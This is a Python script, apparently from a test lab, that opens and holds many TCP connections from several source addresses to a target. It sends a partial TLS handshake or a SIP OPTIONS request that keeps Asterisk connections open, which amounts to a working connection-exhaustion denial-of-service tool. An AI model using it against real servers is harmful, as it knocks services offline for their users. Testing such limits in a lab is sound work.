"""Opens TCP connections and leaves them: silent, or with the first bytes of a TLS handshake; run in the attacker's namespace.

Reads one JSON order from standard input: target, port, sources, each (connections for each source), greet (send the start of
a handshake), ask (send an OPTIONS in clear instead), seconds (how long they are held). Prints JSON when all have been tried: connected; ends after the holding.
"""

from __future__ import annotations

import asyncio
import json
import os
import resource
import sys
from typing import Any

HELLO = bytes.fromhex("16030102000100")


def options(target: str, local: str) -> bytes:
    """A request that Asterisk answers, after which it lets the connection stand."""
    lines = [
        f"OPTIONS sip:{target} SIP/2.0",
        f"Via: SIP/2.0/TCP {local};branch=z9hG4bK{os.urandom(6).hex()};rport",
        f"From: <sip:x@{target}>;tag={os.urandom(4).hex()}",
        f"To: <sip:x@{target}>",
        f"Call-ID: {os.urandom(8).hex()}",
        "CSeq: 1 OPTIONS",
        "Max-Forwards: 70",
        "Content-Length: 0",
    ]
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


async def connect(order: dict[str, Any], source: str) -> Any:
    """An open connection, or nothing when none came about within 4 s."""
    try:
        opening = asyncio.open_connection(order["target"], order["port"], local_addr=(source, 0))
        _, writer = await asyncio.wait_for(opening, 4)
        if order["greet"]:
            writer.write(HELLO)
        if order.get("ask"):
            writer.write(options(order["target"], ":".join(map(str, writer.get_extra_info("sockname")))))
        return writer
    except (OSError, asyncio.TimeoutError):
        return None


async def main() -> None:
    """Open, report, hold."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (8192, 8192))
    order = json.load(sys.stdin)
    tries = [connect(order, source) for source in order["sources"] for _ in range(order["each"])]
    opened = [writer for writer in await asyncio.gather(*tries) if writer is not None]
    print(json.dumps({"connected": len(opened)}), flush=True)
    await asyncio.sleep(order["seconds"])


asyncio.run(main())
